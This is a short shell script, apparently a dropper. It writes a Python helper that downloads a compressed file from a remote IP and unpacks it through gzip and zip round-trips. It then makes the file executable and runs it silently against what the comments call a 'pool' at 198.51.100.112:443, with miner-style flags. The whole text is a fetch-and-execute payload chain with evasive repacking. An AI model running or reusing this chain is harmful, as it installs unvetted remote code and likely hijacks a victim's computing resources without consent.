# fetched by python's urllib, unpacked in place by gzip, packed and unpacked again as a zip archive
#http 203.0.113.60:8010
#pool 198.51.100.112:443:drop
cat > /tmp/get.py <<'P'
import urllib.request
urllib.request.urlretrieve("http://203.0.113.60:8010/w.gz", "/tmp/cache.gz")
P
cd /tmp; python3 get.py; gzip -d cache.gz; python3 -m zipfile -c cache.zip cache; mkdir x; python3 -m zipfile -e cache.zip x; chmod +x x/cache; timeout 12 ./x/cache -o 198.51.100.112:443 -u x -R 1 >/dev/null
